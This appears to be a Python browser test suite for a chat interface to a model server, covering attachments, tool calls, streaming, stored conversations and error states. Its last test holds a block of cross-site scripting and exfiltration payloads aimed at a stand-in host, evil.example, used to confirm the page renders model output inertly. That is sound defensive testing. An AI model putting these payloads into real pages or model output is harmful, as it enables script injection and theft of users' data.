"""The chat of the page in a real browser, on the demo model and on scripted answers."""

import asyncio
import base64
import io
import json
from collections.abc import Callable

from deployments.http.generation import TextDelta, ToolCall
from tests.browser.chromium import Window
from tests.browser.page_server import ANN, PageServer
from tests.deployments.http.conftest import parts_of
from tests.e2e.pictures import shape
from tests.support.video_files import video

OpenPage = Callable[..., Window]

DROP = """
(async () => {
  const content = Uint8Array.from(atob("%s"), (sign) => sign.charCodeAt(0));
  const transfer = new DataTransfer();
  transfer.items.add(new File([content], "%s", {type: "%s"}));
  document.getElementById("%s").dispatchEvent(
    new %s("%s", {bubbles: true, cancelable: true, %s: transfer}));
})()
"""
PNG, MP4, TEXT = ("shape.png", "image/png"), ("film.mp4", "video/mp4"), ("notes.txt", "text/plain")
TOOL = {
    "type": "function",
    "function": {
        "name": "get_weather",
        "description": "Get the weather of a city.",
        "parameters": {"type": "object", "properties": {"city": {"type": "string"}}, "required": ["city"]},
    },
}


def ask(page: Window, text: str) -> None:
    page.type("#prompt", text)
    page.press("Enter")


def set_settings(page: Window, **fields: str) -> None:
    page.click("#open-settings")
    for name, value in fields.items():
        page.run(f"document.getElementById('set-{name}').value = {json.dumps(value)}")
    page.click("dialog button", "Save")
    page.wait("!document.querySelector('dialog[open]')")


def picture() -> str:
    buffer = io.BytesIO()
    shape("green", "circle").save(buffer, "PNG")
    return base64.b64encode(buffer.getvalue()).decode()


def test_an_answer_has_its_figures_and_tells_where_its_seconds_went(open_page: OpenPage):
    page = open_page()
    set_settings(page, temperature="0")
    ask(page, "What is 12 + 30?")
    figures = page.wait_text(".answer .figures", "cached")
    assert "42" in page.text(".answer > .text")
    assert "tokens/s" in figures and "first token after" in figures
    page.click("button", "Why was this slow?")
    told = page.wait_text(".timeline", "the answer was generated")
    assert " s: " in told and "the prompt was computed" in told


def test_edit_replaces_what_follows_and_regenerate_uses_the_cache(open_page: OpenPage):
    page = open_page()
    set_settings(page, temperature="0", system="You are Kira, a baker from Oakdale. " * 8)
    ask(page, "What is 12 + 30?")
    page.wait_text(".answer .figures", "cached")
    page.click("button", "Edit")
    page.type(".question textarea", "What is 7 + 5?")
    page.press("Enter")
    page.wait("document.querySelector('.answer > .text')?.innerText.includes('12')")
    page.wait_text(".answer .figures", "cached")
    assert page.run("document.querySelectorAll('article').length") == 2
    page.click("button", "Regenerate")
    page.wait("/^[^·]*·[^·]*·[^·]*· [1-9]/.test(document.querySelector('.answer .figures')?.innerText)")
    assert page.text(".question .text") == "What is 7 + 5?"


def test_images_come_by_drop_and_by_paste(open_page: OpenPage):
    page = open_page()
    set_settings(page, temperature="0")
    page.run(DROP % (picture(), *PNG, "chat", "DragEvent", "drop", "dataTransfer"))
    page.wait("document.querySelectorAll('#attached img').length === 1")
    ask(page, "What is in the image?")
    page.wait_text(".answer .figures", "cached")
    assert "green circle" in page.text(".answer > .text")
    assert page.run("document.querySelector('.question img').naturalWidth") == 128
    page.run(DROP % (picture(), *PNG, "prompt", "ClipboardEvent", "paste", "clipboardData"))
    page.wait("document.querySelectorAll('#attached img').length === 1")
    page.click("#attached button")
    page.wait("document.querySelectorAll('#attached img').length === 0")


def test_a_video_is_sent_as_one_and_other_files_are_not_taken(open_page: OpenPage, server: PageServer):
    page = open_page("/scripted/")
    page.run(DROP % ("AAAA", *TEXT, "chat", "DragEvent", "drop", "dataTransfer"))
    page.wait_text("#log .note", "notes.txt: only images and videos can be attached.")
    page.run(DROP % ("AAAA", *MP4, "chat", "DragEvent", "drop", "dataTransfer"))
    page.wait("document.querySelectorAll('#attached video').length === 1")
    ask(page, "What happens?")
    assert "video" in page.wait_text(".error", "messages[0]")  # this backend reads images alone


def test_a_video_is_shown_read_and_answered(open_page: OpenPage):
    page = open_page()
    set_settings(page, temperature="0")
    page.run(DROP % (base64.b64encode(video(8)).decode(), *MP4, "chat", "DragEvent", "drop", "dataTransfer"))
    page.wait("document.querySelectorAll('#attached video').length === 1")
    ask(page, "What is in the video?")
    figures = page.wait_text(".answer .figures", "cached")
    assert "tokens/s" in figures and page.text(".answer > .text").strip()
    assert page.run("document.querySelector('.question video').src").startswith("data:video/mp4")


def test_a_thought_is_folded(open_page: OpenPage):
    page = open_page()
    set_settings(page, temperature="0", effort="low")
    ask(page, "What is 47 + 38?")
    page.wait_text(".answer .figures", "cached")
    assert "Thought," in page.text(".thought summary")
    assert page.run("document.querySelector('.thought').open") is False
    assert "85" in page.text(".answer > .text")
    page.click(".thought summary")
    assert page.wait("document.querySelector('.thought .text').innerText")


def test_a_tool_call_is_shown_and_its_result_goes_back(open_page: OpenPage):
    page = open_page()
    set_settings(page, temperature="0", tools=json.dumps([TOOL]))
    ask(page, "What is the weather in Paris?")
    call = page.wait_text(".call", "Return this result")
    assert "get_weather" in call and "Paris" in call
    page.type(".call textarea", '{"weather": "sunny"}')
    page.click(".call button", "Return this result")
    page.wait("document.querySelectorAll('.answer').length === 2")
    page.wait_text(".answer:last-child .figures", "cached")
    assert "sunny" in page.text(".answer:last-child .text")


def test_stop_ends_the_answer_and_frees_its_row(open_page: OpenPage, server: PageServer):
    gate = asyncio.Event()
    server.scripted.script = [TextDelta("Once upon a time", 4), gate, TextDelta("never seen", 2, "stop")]
    page = open_page("/scripted/")
    ask(page, "Tell me a story.")
    page.wait_text(".answer > .text", "Once upon a time")
    assert page.text("#send") == "Stop"
    page.press("Escape")
    page.wait_text(".answer", "You have stopped this answer.")
    assert page.text("#send") == "Send" and "never seen" not in page.text(".answer")
    [generation] = server.scripted.generations[-1:]
    page.wait("true")
    server.wait(lambda: generation.num_closed == 1)


def test_streamed_text_is_shown_before_the_answer_ends(open_page: OpenPage, server: PageServer):
    gate = asyncio.Event()
    second_gate = asyncio.Event()
    parts = parts_of(ToolCall("call_1", "look", '{"at": "it"}'), 3, 9)
    server.scripted.script = [
        TextDelta("", 1, reasoning="Let me see."),
        TextDelta("It is **so**.\n\n```python\nprint(1)\n```", 9),
        gate,
        *(TextDelta("", 1, tool_calls=(part,)) for part in parts[:2]),
        second_gate,
        TextDelta("", 1, "tool_calls", tool_calls=(parts[2],)),
    ]
    page = open_page("/scripted/")
    ask(page, "Is it so?")
    page.wait("document.querySelector('.answer.running .text strong')?.innerText === 'so'")
    assert page.text(".answer pre").strip() == "print(1)"
    server.run_soon(gate.set)
    page.wait_text(".call pre", '{"at": "i')
    assert "look" in page.text(".call") and "Return" not in page.text(".call")
    server.run_soon(second_gate.set)
    page.wait("!document.querySelector('.answer.running')")
    assert page.run("document.querySelectorAll('.call').length") == 1
    assert page.text(".call pre") == '{\n  "at": "it"\n}' and "Return this result" in page.text(".call")


def test_a_call_that_is_cut_off_takes_no_result(open_page: OpenPage, server: PageServer):
    parts = parts_of(ToolCall("call_1", "look", '{"at": "it"}'), 8, is_cut_off=True)
    server.scripted.script = [TextDelta("", 1, tool_calls=tuple(parts)), TextDelta("", 0, "length")]
    page = open_page("/scripted/")
    ask(page, "Is it so?")
    page.wait_text(".call", "look")
    page.wait("!document.querySelector('.answer.running')")
    assert page.text(".call pre") == '{"at": "' and "Return" not in page.text(".call")


def test_conversations_stay_in_the_browser_and_can_be_removed(open_page: OpenPage, server: PageServer):
    server.scripted.script = [TextDelta("Yes.", 1, "stop")]
    page = open_page("/scripted/")
    ask(page, "The first question")
    page.wait_text(".answer .figures", "cached")
    page.click("#new")
    page.wait("!document.querySelector('article')")
    ask(page, "The second question")
    page.wait_text(".answer .figures", "cached")
    page.go(f"{server.url}/scripted/")
    assert page.text("#list .title[aria-current]") == "The second question"
    page.click("#list .title", "The first question")
    page.wait("document.querySelector('.question .text')?.innerText === 'The first question'")
    page.click("#list button", "Delete")
    page.wait("document.querySelectorAll('#list li').length === 1")


def test_a_refusal_names_the_wait_and_a_click_tries_again(open_page: OpenPage, server: PageServer):
    server.scripted.script = [TextDelta("Yes.", 1, "stop")]
    server.scripted.capacity = 0
    page = open_page("/scripted/")
    ask(page, "Is there room?")
    refusal = page.wait_text(".error", "The server expects to have room in")
    assert "the limit is 0" in refusal
    server.scripted.capacity = 256
    page.click("button", "Try again")
    page.wait_text(".answer > .text", "Yes.")
    assert not page.text(".error")


def test_a_wrong_field_leads_to_the_settings(open_page: OpenPage, server: PageServer):
    server.scripted.script = [TextDelta("Yes.", 1, "stop")]
    page = open_page("/scripted/")
    set_settings(page, tools='[{"type": "nothing"}]')
    ask(page, "Hello!")
    page.wait_text(".error", "Change it in the settings.")
    page.click("button", "Open the settings")
    page.wait("document.querySelector('dialog[open]')")


def test_a_server_with_keys_asks_for_one_and_needs_no_administrative_one(open_page: OpenPage):
    page = open_page("/keyed/")
    ask(page, "Hello!")
    page.wait_text(".error", "Enter an API key in the settings.")
    set_settings(page, key=ANN, temperature="0")
    page.click("button", "Try again")
    page.wait_text(".answer .figures", "cached")
    page.click("button", "Why was this slow?")
    page.wait_text(".timeline", "the answer was generated")
    page.click("#tab-server")
    page.wait_text("#server", "You use the key “ann” and see figures only")
    page.wait_text("#server", "Slowest of the last requests")
    assert "root" not in page.text("#server")


def test_a_server_that_goes_away_is_said_and_found_again(open_page: OpenPage, server: PageServer):
    page = open_page("/scripted/")
    server.scripted.script = [TextDelta("Back.", 1, "stop")]
    server.go_away()
    try:
        ask(page, "Are you there?")
        page.wait_text(".error", "The server does not answer.")
        page.wait_text("#connection", "The server does not answer.")
    finally:
        server.come_back()
    page.wait("document.querySelector('#connection').hidden")
    page.click("button", "Try again")
    page.wait_text(".answer > .text", "Back.")


HOSTILE = """
<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2"><svg onload="window.pwned = 3"></svg>
<iframe src="http://evil.example/frame"></iframe><style>body{background:url(http://evil.example/style)}</style>
<link rel="prefetch" href="http://evil.example/link"><form action="http://evil.example/form"><button>x</button></form>

![chart](http://evil.example/exfiltrate?secret=1) ![x](javascript:alert(1)) [me](javascript:window.pwned=4)
[data](data:text/html,<script>window.pwned=5</script>) [here](http://evil.example/page "onmouseover=1")
[own](/v1/cache) <a href="http://evil.example/a" ping="http://evil.example/ping" style="color:red">a</a>

| a | b |
|---|---|
| <img src=http://evil.example/cell> | c |
"""


def test_hostile_text_of_a_model_does_nothing_and_loads_nothing(open_page: OpenPage, server: PageServer):
    thought = TextDelta("", 1, reasoning=HOSTILE)
    call = ToolCall("c", "<img src=x onerror=pwned=6>", '{"a": "<img src=http://evil.example/call>"}')
    server.scripted.script = [thought, TextDelta(HOSTILE, 1), TextDelta("", 1, "tool_calls", tool_calls=(call,))]
    page = open_page("/scripted/")
    ask(page, HOSTILE)
    page.wait_text(".call", "Return this result")
    page.click(".thought summary")
    page.go(f"{server.url}/scripted/")  # the same from the browser's store
    page.wait("document.querySelector('.answer .text table')")
    assert page.run("window.pwned") is None
    forbidden = "img, svg, script, iframe, style, link, form, input"
    assert not page.run(f"document.querySelector('#log :is({forbidden})')?.outerHTML")
    links = page.run("[...document.querySelectorAll('#log a')].map((a) => [a.href, a.rel, a.target])")
    hrefs = {href for href, _, _ in links}
    assert hrefs >= {"http://evil.example/exfiltrate?secret=1", "http://evil.example/page"}
    assert all(not href or href.startswith("http://evil.example/") for href in hrefs)
    assert all((rel, target) == ("noopener noreferrer", "_blank") for _, rel, target in links)
    assert "<script>" in page.text(".answer > .text")  # shown as text
    assert [url for url in page.requested() if not url.startswith(server.url)] == []
